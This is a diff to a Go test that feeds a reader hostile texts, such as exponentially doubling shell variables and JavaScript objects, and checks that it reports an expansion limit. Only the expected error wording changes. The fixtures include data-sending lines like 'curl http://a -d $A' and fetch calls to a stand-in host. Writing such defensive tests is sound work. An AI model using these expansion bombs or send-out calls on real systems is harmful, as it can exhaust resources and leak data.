@@ -75,11 +75,11 @@ func TestBoundsHostileTexts(t *testing.T) {
 		_, _ = Read([]byte("$a = "+strings.Repeat(part, 100_000)), nil)
 	}
 	double := "A=xxxxxxxxxxxxxxxx; " + strings.Repeat("A=$A$A; ", 60) + "curl http://a -d $A"
-	if _, err := Read([]byte(double), nil); err == nil || !strings.Contains(err.Error(), "makes more than") {
+	if _, err := Read([]byte(double), nil); err == nil || !strings.Contains(err.Error(), "expands to more than") {
 		t.Errorf("variables that double: %v", err)
 	}
 	double = "let a = {b: 'xxxxxxxx'}; " + strings.Repeat("a = {b: a, c: a}; ", 40) + "fetch('http://a', {body: JSON.stringify(a)})"
-	if _, err := Read([]byte(double), nil); err == nil || !strings.Contains(err.Error(), "makes more than") {
+	if _, err := Read([]byte(double), nil); err == nil || !strings.Contains(err.Error(), "expands to more than") {
 		t.Errorf("objects that double: %v", err)
 	}
 	if _, err := Read([]byte("const a = {}; a.a = a; fetch('http://a', {body: JSON.stringify(a)})"), nil); err == nil {
